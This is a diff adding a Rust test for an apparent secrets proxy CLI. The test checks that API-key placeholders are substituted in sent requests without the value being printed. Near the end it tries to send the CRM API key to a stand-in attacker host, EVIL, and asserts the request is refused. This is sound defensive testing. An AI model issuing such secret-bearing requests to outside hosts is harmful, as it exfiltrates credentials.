@@ -144,3 +144,30 @@ async fn a_request_test_says_what_would_happen_and_sends_nothing() {
     }
     world.untouched();
 }
+
+#[tokio::test]
+async fn a_request_test_can_be_sent_for_real_as_a_runner_or_not() {
+    let world = World::new().await;
+    world.proxy.must(&["runner", "create", "crm", "--secret", "crm.*"], "").await;
+    let url = format!("https://{CRM}/v1?k={{secrets.crm.apiKey}}");
+    let arguments = ["test", "--send", "-H", "X-Key: {secrets.crm.apiKey}", "-d", "a={secrets.crm.apiKey}", &url];
+    let said = world.proxy.must(&arguments, "").await;
+    assert!(said.contains("It was sent, and answered with 200 after"), "{said}");
+    assert!(!said.contains(VALUE), "{said}");
+    let said = world.proxy.must(&[&arguments[..], &["--runner", "crm", "--json"]].concat(), "").await;
+    let findings: serde_json::Value = serde_json::from_str(&said).expect("JSON");
+    assert_eq!((&findings["answer"]["status"], &findings["answer"]["code"]), (&200.into(), &serde_json::Value::Null));
+    for got in world.crm.received() {
+        assert_eq!((got.line(), got.field("x-key")), ("POST /v1?k=abc123-Zx%2F9%2B%3Dsecret HTTP/1.1", VALUE));
+        assert_eq!(got.body, b"a=abc123-Zx%2F9%2B%3Dsecret");
+    }
+    assert_eq!(world.crm.received().len(), 2);
+    world.proxy.logged("\"runner\":\"crm\"").await;
+    // What would be refused is not sent, and what the road refuses is told.
+    let refused = world.proxy.cli(&["test", "--send", &format!("https://{EVIL}/{{secrets.crm.apiKey}}")], "").await;
+    assert_eq!(refused.status.code(), Some(1));
+    world.proxy.create_secret("any", "value", &[]).await;
+    let said = world.proxy.must(&["test", "--send", "https://192.168.7.7/{secrets.any}"], "").await;
+    assert!(said.contains("refused on its way with 403 target_denied"), "{said}");
+    assert_eq!(world.evil.connections(), 0);
+}
